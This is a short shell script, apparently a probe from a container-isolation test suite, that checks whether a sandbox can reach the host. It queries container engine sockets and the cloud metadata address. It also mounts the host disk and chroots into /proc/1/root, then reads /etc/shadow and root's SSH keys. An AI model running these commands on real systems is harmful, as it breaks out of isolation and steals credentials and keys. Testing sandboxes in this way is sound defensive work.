# family: reach
# what: The engine's socket, the metadata address and the host's files are tried.
# user: any
for socket in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock; do
  curl -m 2 --unix-socket "$socket" http://localhost/containers/json > "$scratch/engine"
done
curl -m 1 http://169.254.169.254/latest/meta-data/ > "$scratch/metadata"
mount /dev/vda1 /mnt; mount --bind /proc/1/root /mnt; chroot /proc/1/root sh -c 'ls /root'; cat /etc/shadow /root/.ssh/*
